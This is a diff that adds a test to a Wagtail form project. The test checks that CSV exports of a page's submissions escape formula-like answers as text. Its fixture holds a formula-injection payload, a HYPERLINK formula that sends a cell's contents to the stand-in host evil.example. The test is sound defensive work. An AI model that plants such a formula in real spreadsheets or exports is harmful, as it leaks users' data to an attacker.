@@ -304,3 +304,24 @@ def test_the_export_runs_the_same_number_of_queries_for_many_requests(client, pe
         content = export()
     assert "会社11" in content
     assert len(many) == len(few)
+
+
+def test_the_form_pages_own_submissions_export_keeps_formula_like_answers_as_text(
+    client, people, form_page
+):
+    """Wagtail's list of the page's submissions (reached from the page's panel) exports CSV too:
+    an answer a spreadsheet would run as a formula is written as text (issue 14, 8)."""
+    ConsultationSubmission.objects.create(
+        page=form_page,
+        form_data=answers('=HYPERLINK("http://evil.example/?"&A2,"click")', "+81@example.jp"),
+    )
+    response = signed_in(client, people["editor"]).get(
+        reverse("wagtailforms:list_submissions", args=[form_page.pk]), {"export": "csv"}
+    )
+
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    _heading, row = list(csv.reader(io.StringIO(content)))
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")" in row
+    assert "'+81@example.jp" in row
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
